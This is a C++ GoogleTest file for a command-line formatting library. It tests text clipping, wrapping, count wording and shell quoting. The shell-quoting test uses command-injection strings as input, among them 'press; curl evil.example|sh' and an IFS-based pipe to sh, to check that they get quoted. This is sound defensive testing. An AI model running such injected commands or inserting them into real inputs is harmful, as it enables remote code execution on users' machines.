#include "gazetted/cli/screen.hpp"

#include <gtest/gtest.h>

namespace gazetted::test {
namespace {

TEST(Clip, CutsByColumnsAndNeverACharacter) {
  struct {
    const char* text;
    std::size_t columns;
    const char* shown;
  } const rows[] = {
      {"bridge", 6, "bridge"}, {"bridge", 5, "brid…"},  {"bridge", 1, "…"}, {"bridge", 0, ""}, {"", 0, ""},
      {"Brücke", 4, "Brü…"},   {"東京都", 6, "東京都"},  // two columns each
      {"東京都", 5, "東京…"},  {"東京都", 4, "東…"},
  };
  for (const auto& row : rows) EXPECT_EQ(clip(row.text, row.columns), row.shown) << row.text << " " << row.columns;
}

TEST(Clip, AColourTakesNoRoomAndEndsWithTheLine) {
  EXPECT_EQ(clip("\033[32mok\033[0m fine", 7), "\033[32mok\033[0m fine");
  EXPECT_EQ(clip("\033[32mbridge\033[0m", 4), "\033[32mbri…\033[0m");
  EXPECT_EQ(clip("a\033[", 1), "a\033[");
}

TEST(Wrap, BreaksBetweenWordsAndIndentsWhatFollows) {
  EXPECT_EQ(wrap("the bridge opens on Monday", 12, "  "), "the bridge\n  opens on\n  Monday");
  EXPECT_EQ(wrap("  the bridge opens", 14, "    "), "  the bridge\n    opens");
  EXPECT_EQ(wrap("a-word-that-is-too-long for it", 8, ""), "a-word-that-is-too-long\nfor it");
  EXPECT_EQ(wrap("\033[1mthe\033[0m bridge", 10, ""), "\033[1mthe\033[0m bridge");
  EXPECT_EQ(wrap("ab cd", 5, ""), "ab cd");
  EXPECT_EQ(wrap("ab cd", 4, ""), "ab\ncd") << "the blank has a column, too";
  EXPECT_EQ(wrap("", 10, "  "), "");
}

TEST(Counts, AreGroupedAndOneIsOne) {
  EXPECT_EQ(recipients(0), "0 recipients");
  EXPECT_EQ(recipients(1), "1 recipient");
  EXPECT_EQ(recipients(1204), "1,204 recipients");
  EXPECT_EQ(count_of(2, "row", "rows"), "2 rows");
}

TEST(Screen, WordsOfCommandsAreQuotedWhereAShellWouldReadThem) {
  EXPECT_EQ(shell_word("ann+1@x.example"), "ann+1@x.example");
  EXPECT_EQ(shell_word("press; curl evil.example|sh"), "'press; curl evil.example|sh'");
  EXPECT_EQ(shell_word("|sh${IFS}@x.example"), "'|sh${IFS}@x.example'");
  EXPECT_EQ(shell_word("o'neil@x.example"), "'o'\\''neil@x.example'");
  EXPECT_EQ(shell_word(""), "''");
}

}  // namespace
}  // namespace gazetted::test
